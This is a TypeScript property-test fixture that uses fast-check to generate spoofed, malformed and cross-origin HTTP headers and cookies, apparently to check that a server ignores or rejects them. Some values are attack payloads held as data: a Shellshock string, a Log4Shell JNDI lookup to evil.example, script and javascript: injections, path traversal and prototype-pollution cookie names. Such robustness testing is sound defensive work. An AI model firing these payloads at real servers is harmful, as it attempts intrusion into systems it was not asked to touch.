// Headers that are odd: some change nothing, some must stop a request.
import fc from 'fast-check';

type Headers = Readonly<Record<string, string>>;

/** With any of these no request comes out differently. */
const ineffective: Headers = {
  // Another host, address, method or path than the request's own.
  'X-Forwarded-Host': 'evil.example',
  'X-Forwarded-Proto': 'gopher',
  Forwarded: 'host=evil.example',
  'X-Forwarded-For': '127.0.0.1, ::1, \'"',
  'X-Real-IP': 'localhost',
  'True-Client-IP': '0.0.0.0',
  'X-HTTP-Method-Override': 'DELETE',
  'X-HTTP-Method': 'PUT',
  'X-Method-Override': 'PATCH',
  'X-Original-URL': '/api/admin/orders',
  'X-Rewrite-URL': '/api/admin/orders',
  // Wishes that make no sense.
  Accept: '*/*;q=nan, text/;;',
  'Accept-Language': '*'.repeat(500),
  'Accept-Encoding': 'br;q=9, x',
  Range: 'bytes=99999999999999999999-0,-1,a-b',
  'If-Range': '"x',
  'If-Match': '*',
  'If-Unmodified-Since': 'yesterday',
  'If-Modified-Since': '0',
  'Upgrade-Insecure-Requests': 'x',
  DNT: '2',
  // Who it claims to be.
  'Stripe-Signature': 't=1,v1=00,v0=,t=NaN',
  Authorization: `Bearer ${'x'.repeat(4_000)}`,
  'Proxy-Authorization': 'Basic ====',
  'X-Request-Id': '\'"><script>',
  'CF-Ray': '??',
  'User-Agent': '() { :;}; /bin/true ${jndi:ldap://evil.example}',
  Referer: 'javascript:alert(1)',
};

/** @param isSigned whether the call reads a signature */
export function harmless(isSigned: boolean): fc.Arbitrary<Headers> {
  const some = Object.entries(ineffective).filter(([name]) => !(isSigned && name === 'Stripe-Signature'));
  return fc.oneof(
    { weight: 3, arbitrary: fc.subarray(some, { minLength: 1 }).map((chosen) => Object.fromEntries(chosen)) },
    {
      weight: 1,
      arbitrary: fc.constantFrom<Headers[]>(
        { 'CF-Connecting-IP': 'fe80::1%eth0::::zzzz' },
        { 'CF-Connecting-IP': '1:'.repeat(4_000) },
        { Upgrade: 'websocket', Connection: 'Upgrade', 'Sec-WebSocket-Key': 'x' },
        { 'Sec-Fetch-Site': 'same-origin' },
        { 'Sec-Fetch-Site': 'none', 'Sec-Fetch-Mode': 'navigate' },
      ),
    },
  );
}

/** What another site sends: no write may pass. */
export const foreign: fc.Arbitrary<Headers> = fc.oneof(
  fc
    .constantFrom('https://evil.example', 'null', '', 'https://localhost.evil.example', 'https://localhost:81', 'x"')
    .map((Origin) => ({ Origin })), // prettier-ignore
  fc.webUrl().map((url) => ({ Origin: new URL(url).origin })),
  fc
    .constantFrom('cross-site', 'SAME-ORIGIN', 'same-origin, cross-site')
    .map((site) => ({ 'Sec-Fetch-Site': site })),
  fc.constant({ 'Sec-Fetch-Site': 'same-site', Origin: 'http://other.localhost' }),
);

const header = (name: string, values: readonly string[]): fc.Arbitrary<Headers> =>
  fc.constantFrom(...values).map((value) => ({ [name]: value }));

export const badKeys = header('Idempotency-Key', [
  '', 'short', 'a'.repeat(65), 'a'.repeat(9_000), 'with a space', 'eight\ttab', '"', 'key,key, key', '        ',
]); // prettier-ignore

export const goodKeys = header('Idempotency-Key', ['«key»', `${'!'.repeat(40)}«key»`, `'"\\<>\`«key»`]);

/** Nobody is signed in by any of these. */
export const emptyCookies = header('Cookie', [
  '', ';', '=', ';;;=;=;', '__Host-sid', '__Host-sid=', '__Host-sid=;', '__Host-sid=undefined', '__Host-sid="', '__Host-sid=%', '__Host-sid=%00',
  `__Host-sid=${'a'.repeat(43)}`, `__Host-sid=${'a'.repeat(100_000)}`, '__host-sid=«session»', 'sid=«session»', '__Secure-sid=«session»',
  '__Host-sid=«session»x', '__Host-sid=session:«session»', `__Host-code=${'%ff'.repeat(500)}`, '__Host-errand=state=a&nonce=b&verifier=c',
  '__Host-errand=state%3Da%26nonce%3Db%26verifier%3Dc', '__Host-purchase=cs_test_nothing', '__Host-purchase=../../v1/balance', '__Host-change=%F0%9F',
  '__proto__=1; constructor=2; toString=3', 'a'.repeat(50_000), Array.from({ length: 1_000 }, (_, i) => `c${i}=${i}`).join('; '), 'x y=z',
]); // prettier-ignore

/** Somebody is, or nobody. */
export const mixedCookies = header('Cookie', [
  '__Host-sid=nobody; __Host-sid=«session»', '__Host-sid=«session»; __Host-sid=nobody', ';;; __Host-sid=«session» ;;', '__Host-sid="«session»"',
  `${'x=y; '.repeat(2_000)}__Host-sid=«session»`, '__Host-sid=«session»; __proto__=1',
]); // prettier-ignore
